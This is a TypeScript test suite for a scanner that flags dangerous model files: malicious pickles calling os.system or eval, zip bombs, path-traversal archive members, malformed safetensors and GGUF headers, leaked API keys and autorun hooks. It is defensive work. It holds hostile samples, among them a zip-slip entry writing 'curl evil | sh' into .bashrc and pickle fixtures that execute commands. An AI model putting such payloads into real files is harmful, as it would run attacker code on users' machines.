import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import {
  BUILTINS_EVAL_FROM_MEMO,
  bytes,
  deflatedZip,
  gguf,
  INST_P0,
  ORDERED_DICT_P2,
  OS_SYSTEM_P2,
  POSIX_SYSTEM_P4,
  safetensors,
  shortUnicode,
  TORCH_STATE_DICT_P4,
  u64,
  zipOf,
} from '../../../test/scan-fixtures';
import { judgeGlobal } from './globals';
import { DEFAULT_SCAN_LIMITS, type ScanLimits, scanStream } from './scanner';

/** Scans bytes in small chunks, so every opcode and header crosses chunk boundaries somewhere. */
function scan(data: Buffer, name: string, limits?: Partial<ScanLimits>) {
  const chunks = Array.from({ length: Math.ceil(data.length / 7) || 1 }, (_, i) => data.subarray(i * 7, i * 7 + 7));
  return scanStream(Readable.from(chunks), name, data.length, { ...DEFAULT_SCAN_LIMITS, ...limits });
}

const codes = (result: Awaited<ReturnType<typeof scan>>) => result.reasons.map((r) => [r.code, r.detail, r.member]);

describe('pickles are read opcode by opcode', () => {
  it('reports os.system imported by GLOBAL and called by REDUCE (protocol 2) as dangerous', async () => {
    const result = await scan(OS_SYSTEM_P2, 'model.pkl');
    expect(result.verdict).toBe('dangerous');
    expect(result.reasons).toEqual([
      expect.objectContaining({ code: 'pickle_dangerous_global', severity: 'dangerous', detail: 'os.system', member: null }),
    ]);
    expect(result.reasons[0]?.message).toContain('os.system and calls it');
  });

  it('finds posix.system behind STACK_GLOBAL with the strings pushed before it (protocol 4, framed)', async () => {
    const result = await scan(POSIX_SYSTEM_P4, 'weights.pth');
    expect(result.verdict).toBe('dangerous');
    expect(codes(result)).toEqual([['pickle_dangerous_global', 'posix.system', null]]);
  });

  it('follows names through the memo: builtins.eval fetched back with BINGET', async () => {
    const result = await scan(BUILTINS_EVAL_FROM_MEMO, 'model.joblib');
    expect(codes(result)).toEqual([['pickle_dangerous_global', 'builtins.eval', null]]);
  });

  it('reads protocol 0 INST (import and call in one opcode)', async () => {
    const result = await scan(INST_P0, 'legacy.pickle');
    expect(codes(result)).toEqual([['pickle_dangerous_global', 'subprocess.check_output', null]]);
  });

  it('judges a state dict of OrderedDict and torch._utils._rebuild_tensor_v2 clean', async () => {
    expect(await scan(ORDERED_DICT_P2, 'a.pkl')).toEqual({ verdict: 'clean', reasons: [] });
    expect(await scan(TORCH_STATE_DICT_P4, 'b.pkl')).toEqual({ verdict: 'clean', reasons: [] });
  });

  it('warns about a global outside the safe list, and marks a name built at load time dangerous', async () => {
    const unknown = bytes(0x80, 2, 'csklearn.linear_model\nLogisticRegression\n)R.');
    expect(codes(await scan(unknown, 'clf.pkl'))).toEqual([
      ['pickle_unknown_global', 'sklearn.linear_model.LogisticRegression', null],
    ]);
    // STACK_GLOBAL whose module is a computed value (the result of a call), not a string
    const computed = bytes(0x80, 4, 'ccollections\nOrderedDict\n)R', shortUnicode('system'), 0x93, ')R.');
    const result = await scan(computed, 'x.pkl');
    expect(result.verdict).toBe('dangerous');
    expect(codes(result)).toContainEqual(['pickle_computed_global', '1', null]);
  });

  it('judges dotted names that walk to dunders dangerous', () => {
    expect(judgeGlobal('torch', '_utils.__builtins__.eval')).toBe('dangerous');
    expect(judgeGlobal('os.path', 'join')).toBe('dangerous');
    expect(judgeGlobal('collections', 'OrderedDict')).toBe('safe');
    expect(judgeGlobal('mypackage', 'Model')).toBe('unknown');
  });

  it('a truncated pickle keeps what it found and says it was not read to its end', async () => {
    const result = await scan(OS_SYSTEM_P2.subarray(0, 16), 'cut.pkl');
    expect(result.verdict).toBe('dangerous');
    expect(codes(result)).toEqual([
      ['pickle_dangerous_global', 'os.system', null],
      ['pickle_malformed', 'the pickle ends in the middle of an opcode', null],
    ]);
  });

  it('garbage in a .pkl is a warning, never a crash', async () => {
    const result = await scan(Buffer.from('hello, this is not a pickle'), 'notes.pkl');
    expect(result.verdict).toBe('warning');
    expect(result.reasons[0]?.code).toBe('pickle_malformed');
    const random = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919 + 13) % 256));
    expect((await scan(random, 'random.pkl')).verdict).not.toBe('clean');
  });

  it('a stack bigger than the limit stops the scan with "not fully scanned"', async () => {
    const marks = bytes(0x80, 2, Buffer.alloc(3_000_000, '('), '.');
    const result = await scan(marks, 'marks.pkl');
    expect(codes(result)).toEqual([['not_fully_scanned', 'the pickle holds more items than a scan follows', null]]);
  });
});

describe('archives', () => {
  it('reads a .pt zip and names the member holding os.system', async () => {
    const pt = await zipOf([
      ['archive/data.pkl', OS_SYSTEM_P2],
      ['archive/data/0', Buffer.alloc(64, 0)],
      ['archive/version', Buffer.from('3\n')],
    ]);
    const result = await scan(pt, 'model.pt');
    expect(result.verdict).toBe('dangerous');
    expect(codes(result)).toEqual([['pickle_dangerous_global', 'os.system', 'archive/data.pkl']]);
  });

  it('a clean .pt zip is clean', async () => {
    const pt = await zipOf([
      ['archive/data.pkl', TORCH_STATE_DICT_P4],
      ['archive/data/0', Buffer.alloc(16, 0)],
    ]);
    expect(await scan(pt, 'model.pt')).toEqual({ verdict: 'clean', reasons: [] });
  });

  it('opens a zip inside a zip and names the path through both', async () => {
    const inner = await zipOf([['checkpoints/model.pkl', POSIX_SYSTEM_P4]]);
    const outer = await zipOf([
      ['README.md', Buffer.from('# My tool\n')],
      ['bundle/inner.zip', inner],
    ]);
    const result = await scan(outer, 'product.zip');
    expect(codes(result)).toEqual([['pickle_dangerous_global', 'posix.system', 'bundle/inner.zip/checkpoints/model.pkl']]);
  });

  it('stops at the depth limit: zips nested deeper are "not fully scanned"', async () => {
    let nested = await zipOf([['deep.pkl', OS_SYSTEM_P2]]);
    for (let level = 0; level < 5; level += 1) nested = await zipOf([[`level${level}.zip`, nested]]);
    const result = await scan(nested, 'nested.zip', { maxDepth: 3 });
    expect(result.verdict).toBe('warning');
    expect(codes(result)).toEqual([
      ['not_fully_scanned', 'zips nested deeper than 3 levels', 'level4.zip/level3.zip/level2.zip'],
    ]);
  });

  it('a zip bomb stops at the byte budget with a warning and bounded memory', async () => {
    const bomb = deflatedZip([
      ['a.txt', Buffer.alloc(20 * 1024 * 1024, 0x41)],
      ['b.txt', Buffer.alloc(20 * 1024 * 1024, 0x41)],
    ]);
    expect(bomb.length).toBeLessThan(100_000);
    const before = process.memoryUsage().rss;
    const result = await scan(bomb, 'bomb.zip', { maxTotalBytes: 30 * 1024 * 1024 });
    expect(result.verdict).toBe('warning');
    expect(result.reasons.map((r) => r.code)).toEqual(['not_fully_scanned']);
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024);
  });

  it('stops after the member limit', async () => {
    const many = await zipOf(Array.from({ length: 20 }, (_, i) => [`f${i}.txt`, Buffer.from('x')] as [string, Buffer]));
    const result = await scan(many, 'many.zip', { maxEntries: 5 });
    expect(codes(result)).toEqual([['not_fully_scanned', 'more than 5 zip members', null]]);
  });

  it('a member path that climbs out of the folder is dangerous; a broken zip is a warning', async () => {
    const slip = deflatedZip([['../../.bashrc', Buffer.from('curl evil | sh\n')]]);
    expect(codes(await scan(slip, 'slip.zip'))).toEqual([['zip_unsafe_path', '../../.bashrc', '../../.bashrc']]);
    const broken = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100, 7)]);
    const result = await scan(broken, 'broken.zip');
    expect(result.verdict).toBe('warning');
    expect(result.reasons[0]?.code).toBe('not_fully_scanned');
  });
});

describe('weights formats are what they claim', () => {
  it('reads the pickle inside a NumPy array of objects, also inside an .npz', async () => {
    const npy = (descr: string, data: Buffer) => {
      const dict = `{'descr': '${descr}', 'fortran_order': False, 'shape': (1,), }`;
      const header = Buffer.from(`${dict.padEnd(117, ' ')}\n`);
      const length = Buffer.alloc(2);
      length.writeUInt16LE(header.length);
      return bytes('\x93NUMPY', 1, 0, length, header, data);
    };
    expect(codes(await scan(npy('|O', OS_SYSTEM_P2), 'objects.npy'))).toEqual([['pickle_dangerous_global', 'os.system', null]]);
    expect(await scan(npy('<f4', Buffer.alloc(4)), 'floats.npy')).toEqual({ verdict: 'clean', reasons: [] });
    const npz = await zipOf([['arr_0.npy', npy('|O', POSIX_SYSTEM_P4)]]);
    expect(codes(await scan(npz, 'arrays.npz'))).toEqual([['pickle_dangerous_global', 'posix.system', 'arr_0.npy']]);
  });

  it('accepts a real safetensors header and refuses one whose offsets leave the file', async () => {
    const header = { __metadata__: { format: 'pt' }, weight: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] } };
    expect(await scan(safetensors(header, 16), 'model.safetensors')).toEqual({ verdict: 'clean', reasons: [] });
    const lying = { weight: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 4096] } };
    const result = await scan(safetensors(lying, 16), 'model.safetensors');
    expect(result.verdict).toBe('dangerous');
    expect(result.reasons[0]).toMatchObject({
      code: 'safetensors_invalid',
      detail: 'tensor "weight" claims bytes 0–4096 but the data has 16',
    });
    const huge = bytes(u64(2 ** 40), '{}');
    expect((await scan(huge, 'x.safetensors')).reasons[0]?.code).toBe('safetensors_invalid');
    expect((await scan(OS_SYSTEM_P2, 'disguised.safetensors')).verdict).toBe('dangerous');
  });

  it('accepts a GGUF header and refuses an unknown version or insane counts', async () => {
    expect(await scan(gguf(), 'model.gguf')).toEqual({ verdict: 'clean', reasons: [] });
    expect((await scan(gguf(99), 'model.gguf')).reasons[0]).toMatchObject({
      code: 'gguf_invalid',
      detail: 'unknown GGUF version 99',
    });
    expect((await scan(gguf(3, 2 ** 40), 'model.gguf')).verdict).toBe('dangerous');
    expect((await scan(Buffer.from('not gguf at all'), 'model.gguf')).verdict).toBe('dangerous');
  });
});

describe('secrets, executables and auto-run entries', () => {
  it('reports an AWS key in a .env file, masked', async () => {
    const env = Buffer.from('AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_REGION=eu-west-1\n');
    const result = await scan(await zipOf([['config/.env', env]]), 'tool.zip');
    expect(result.verdict).toBe('warning');
    expect(codes(result)).toEqual([
      ['env_file', '.env', 'config/.env'],
      ['secret_aws_key', 'AKIAIO…', 'config/.env'],
    ]);
    expect(JSON.stringify(result)).not.toContain('AKIAIOSFODNN7EXAMPLE');
  });

  it('finds private keys and GitHub, OpenAI and Stripe keys in text, even split across chunks', async () => {
    const text = Buffer.from(
      [
        '-----BEGIN OPENSSH PRIVATE KEY-----',
        `token = "ghp_${'a'.repeat(36)}"`,
        `OPENAI_API_KEY=sk-proj-${'b'.repeat(48)}`,
        `stripe: sk_live_${'c'.repeat(24)}`,
      ].join('\n'),
    );
    const found = (await scan(text, 'notes.txt')).reasons.map((r) => r.code);
    expect(found).toEqual(['secret_private_key', 'secret_github_token', 'secret_openai_key', 'secret_stripe_key']);
    expect((await scan(Buffer.from('KEY=sk-test-not-a-key'), '.env.example')).verdict).toBe('clean');
  });

  it('flags an ELF executable and install hooks in setup.py, not a plain shell script', async () => {
    const elf = bytes(0x7f, 'ELF', 2, 1, 1, Buffer.alloc(100));
    expect(codes(await scan(elf, 'run'))).toEqual([['native_executable', 'ELF', null]]);
    const setup = Buffer.from(
      'from setuptools import setup\nfrom setuptools.command.install import install\nsetup(cmdclass={"install": Hook})\n',
    );
    expect((await scan(setup, 'setup.py')).reasons[0]?.code).toBe('autorun_entry');
    expect((await scan(Buffer.from('[autorun]\nopen=setup.exe\n'), 'AUTORUN.INF')).reasons[0]?.code).toBe('autorun_entry');
    expect(await scan(Buffer.from('#!/bin/sh\necho hello\n'), 'run.sh')).toEqual({ verdict: 'clean', reasons: [] });
  });
});
